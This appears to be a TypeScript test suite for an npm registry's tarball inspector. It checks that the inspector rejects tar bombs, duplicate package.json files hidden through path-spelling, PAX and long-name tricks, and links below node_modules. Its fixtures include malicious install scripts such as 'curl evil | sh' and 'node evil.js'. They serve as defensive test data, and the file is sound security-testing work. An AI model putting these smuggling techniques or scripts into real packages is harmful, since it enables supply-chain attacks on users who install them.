import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { RegistryError } from '../../../src/packages/registry/errors.ts';
import { inspectTarball } from '../../../src/packages/registry/tarball.ts';
import { gzip, packTarball, tarBomb, tarOf, truncatedTarball } from '../../support/fixture-packages.ts';
import { paxRecord, type RawEntry, rawTar } from '../../support/raw-tar.ts';

const stream = (bytes: Uint8Array) => new Blob([bytes as BlobPart]).stream();
const inspect = (bytes: Uint8Array, cap = 10_000_000) => inspectTarball(stream(bytes), cap);
const codeOf = (promise: Promise<unknown>) =>
  promise.then(
    () => 'ok',
    (error: unknown) => (error instanceof RegistryError ? error.code : `unexpected ${String(error)}`),
  );

describe('reading an npm tarball', () => {
  it('returns the package’s own package.json and the bytes of all its files', async () => {
    const bytes = await packTarball({
      name: 'tiny',
      version: '1.2.3',
      packageJson: { license: 'ISC' },
      files: { 'lib/a.js': 'a'.repeat(1000) },
    });
    const summary = await inspect(bytes);
    expect(summary.manifest).toMatchObject({ name: 'tiny', version: '1.2.3', license: 'ISC' });
    const manifestLength = JSON.stringify(summary.manifest, null, 2).length;
    const indexLength = 'module.exports = "tiny@1.2.3";\n'.length;
    expect(summary.unpackedSize).toBe(manifestLength + indexLength + 1000);
  });

  it('takes the first path segment as the package folder, whatever its name (as npm does)', async () => {
    const bytes = await gzip(
      tarOf({
        'node-v1/package.json': JSON.stringify({ name: 'odd', version: '1.0.0' }),
        'node-v1/x.js': '',
      }),
    );
    expect((await inspect(bytes)).manifest).toEqual({ name: 'odd', version: '1.0.0' });
  });

  it('finds package.json under a folder name so long that it sits in the ustar prefix field', async () => {
    const folder = `package-${'x'.repeat(100)}`;
    const manifest = JSON.stringify({ name: 'deep', version: '1.0.0' });
    const bytes = await gzip(tarOf({ [`${folder}/package.json`]: manifest, [`${folder}/file.js`]: 'x' }));
    expect(await inspect(bytes)).toEqual({
      manifest: { name: 'deep', version: '1.0.0' },
      unpackedSize: manifest.length + 1,
      bindingGyp: false,
      bundled: [],
    });
  });

  it('refuses a tar bomb as soon as it unpacks past the cap, without unpacking the rest', async () => {
    const bomb = await tarBomb({ name: 'bomb', version: '1.0.0' }, 50_000_000);
    expect(bomb.length).toBeLessThan(100_000);
    expect(await codeOf(inspect(bomb, 1_000_000))).toBe('unpacked_too_large');
    // Junk after the bomb's 50 MB fails the decompression only when it gets that far: refused at the
    // cap, it never does (a reader that unpacked the rest first would answer malformed_tarball).
    const junked = new Uint8Array([...bomb, ...new TextEncoder().encode('junk after the gzip member')]);
    expect(await codeOf(inspect(junked, 100_000_000))).toBe('malformed_tarball');
    expect(await codeOf(inspect(junked, 1_000_000))).toBe('unpacked_too_large');
  });

  it('counts tar headers towards the cap: a flood of empty files is a bomb too', async () => {
    const entries: Record<string, string> = {
      'package/package.json': JSON.stringify({ name: 'flood', version: '1.0.0' }),
    };
    for (let i = 0; i < 5_000; i++) entries[`package/f${i}`] = '';
    expect(await codeOf(inspect(await gzip(tarOf(entries)), 100_000))).toBe('unpacked_too_large');
  });

  it('refuses a tarball with two package.json files (npm would install the second, unscanned)', async () => {
    const bytes = await gzip(
      tarOf({
        'package/package.json': JSON.stringify({ name: 'twice', version: '1.0.0' }),
        './package/package.json': JSON.stringify({
          name: 'twice',
          version: '1.0.0',
          scripts: { install: 'curl evil | sh' },
        }),
      }),
    );
    expect(await codeOf(inspect(bytes))).toBe('malformed_tarball');
  });

  it('tells a broken archive (malformed_tarball) from a package without a usable package.json (invalid_manifest)', async () => {
    expect(await codeOf(inspect(await truncatedTarball({ name: 'cut', version: '1.0.0' })))).toBe(
      'malformed_tarball',
    );
    expect(await codeOf(inspect(new TextEncoder().encode('not gzip at all')))).toBe('malformed_tarball');
    expect(await codeOf(inspect(await gzip(new TextEncoder().encode('gzip, but not tar'))))).toBe(
      'malformed_tarball',
    );
    const corrupt = tarOf({ 'package/package.json': '{}' });
    corrupt[0] = 'X'.charCodeAt(0); // the header checksum no longer holds
    expect(await codeOf(inspect(await gzip(corrupt)))).toBe('malformed_tarball');
    expect(await codeOf(inspect(await gzip(tarOf({ 'package/index.js': '' }))))).toBe('invalid_manifest');
    expect(await codeOf(inspect(await gzip(tarOf({ 'package/package.json': '{ nope' }))))).toBe(
      'invalid_manifest',
    );
    expect(await codeOf(inspect(await gzip(tarOf({ 'package/package.json': '[1]' }))))).toBe(
      'invalid_manifest',
    );
  });

  it('any prefix of a tarball either fails as a broken archive or yields the true package.json (never a wrong one)', async () => {
    const whole = await gzip(
      tarOf({
        'package/package.json': JSON.stringify({ name: 'prefix', version: '1.0.0' }),
        'package/data.bin': crypto.getRandomValues(new Uint8Array(4096)),
      }),
    );
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: whole.length - 1 }), async (length) => {
        const outcome = await inspect(whole.slice(0, length)).then(
          (summary) => summary.manifest.name,
          (error: unknown) => (error instanceof RegistryError ? error.code : 'unexpected'),
        );
        expect(['malformed_tarball', 'prefix']).toContain(outcome);
      }),
      { numRuns: 150 },
    );
  });
});

describe('reading entry paths as npm’s extractor writes them', () => {
  const clean = JSON.stringify({ name: 'twin', version: '1.0.0' });
  const evil = JSON.stringify({ name: 'twin', version: '1.0.0', scripts: { postinstall: 'node evil.js' } });
  const raw = (entries: RawEntry[], trailer?: Uint8Array) => gzip(rawTar(entries, trailer));

  it.each([
    'package/./package.json',
    'package//package.json',
    'package/.//./package.json',
    'x/\\package.json',
    'package/c:package.json',
    '../package.json',
    'package/PACKAGE.JSON',
    'package/package.json.',
    'package\\package.json',
  ])('refuses a second package.json spelled %j after a clean one', async (second) => {
    const bytes = await raw([
      { path: 'package/package.json', content: clean },
      { path: second, content: evil },
    ]);
    expect(await codeOf(inspect(bytes))).toBe('malformed_tarball');
  });

  it('refuses a second package.json named by a PAX header, a GNU long name or the ustar prefix', async () => {
    const variants: RawEntry[][] = [
      [
        { path: 'PaxHeader', type: 'x', content: paxRecord('path', 'package/./package.json') },
        { path: 'package/harmless.js', content: evil },
      ],
      [
        { path: '././@LongLink', type: 'L', content: 'package//package.json\0' },
        { path: 'package/harmless.js', content: evil },
      ],
      [{ path: './package.json', prefix: 'package', content: evil }],
    ];
    for (const second of variants) {
      const bytes = await raw([{ path: 'package/package.json', content: clean }, ...second]);
      expect(await codeOf(inspect(bytes))).toBe('malformed_tarball');
    }
  });

  it('reads the one package.json wherever npm writes it, and not one npm writes into a subfolder', async () => {
    expect((await inspect(await raw([{ path: 'package//package.json', content: clean }]))).manifest).toEqual(
      JSON.parse(clean),
    );
    expect(await codeOf(inspect(await raw([{ path: './package/package.json', content: clean }])))).toBe(
      'malformed_tarball',
    );
  });

  it('refuses what npm’s extractor would read differently: content after the end, PAX sizes, folders over package.json', async () => {
    const afterEnd = rawTar([{ path: 'package/package.json', content: evil }], new Uint8Array(0));
    const cases: Uint8Array[] = [
      rawTar(
        [{ path: 'package/package.json', content: clean }],
        new Uint8Array([...new Uint8Array(512), ...afterEnd]),
      ),
      rawTar([
        { path: 'PaxHeader', type: 'x', content: paxRecord('size', '0') },
        { path: 'package/package.json', content: clean },
      ]),
      rawTar([
        { path: 'package/package.json', content: clean },
        { path: 'package/package.json/', type: '5' },
      ]),
      rawTar([
        { path: 'package/package.json', content: clean },
        { path: 'package/a.js', linkpath: 'package.json', content: evil },
      ]),
    ];
    for (const tar of cases) expect(await codeOf(inspect(await gzip(tar)))).toBe('malformed_tarball');
  });

  it('tells a binding.gyp at the package root (npm runs node-gyp rebuild) from one in a subfolder', async () => {
    const at = async (path: string) =>
      (
        await inspect(
          await raw([
            { path: 'package/package.json', content: clean },
            { path, content: '{ "targets": [] }' },
          ]),
        )
      ).bindingGyp;
    expect(await at('package/binding.gyp')).toBe(true);
    expect(await at('package/./binding.gyp')).toBe(true);
    expect(await at('package/lib/binding.gyp')).toBe(false);
  });

  it('reads the package.json of every bundled package, under any spelling npm may write it to', async () => {
    const scripted = JSON.stringify({ name: 'b', version: '1.0.0', scripts: { postinstall: 'x' } });
    const bundledOf = async (path: string, extra: Partial<RawEntry> = {}) =>
      (
        await inspect(
          await raw([
            { path: 'package/package.json', content: clean },
            { path, content: scripted, ...extra },
          ]),
        )
      ).bundled.map((b) => [b.folder, b.installScripts, b.unreadable]);
    const found = [['node_modules/b', { postinstall: 'x' }, null]];
    expect(await bundledOf('package/node_modules/b/package.json')).toEqual(found);
    expect(await bundledOf('package/node_modules/./b//package.json')).toEqual(found);
    expect(await bundledOf('package/node_modules\\b\\package.json')).toEqual(found);
    expect(await bundledOf('package/NODE_MODULES/B/Package.JSON')).toEqual(found);
    expect(await bundledOf('package/node_modules/a/node_modules/@s/b/package.json')).toEqual([
      ['node_modules/a/node_modules/@s/b', { postinstall: 'x' }, null],
    ]);
    // Not where npm looks for bundled packages: a test fixture, a file deeper in the package.
    expect(await bundledOf('package/test/node_modules/b/package.json')).toEqual([]);
    expect(await bundledOf('package/node_modules/b/lib/package.json')).toEqual([]);
    // A link below node_modules hands npm a file the scan did not read.
    expect(await bundledOf('package/node_modules/b', { type: '2', linkpath: '../lib', content: '' })).toEqual(
      [['node_modules/b', {}, 'a link below node_modules']],
    );
  });
});
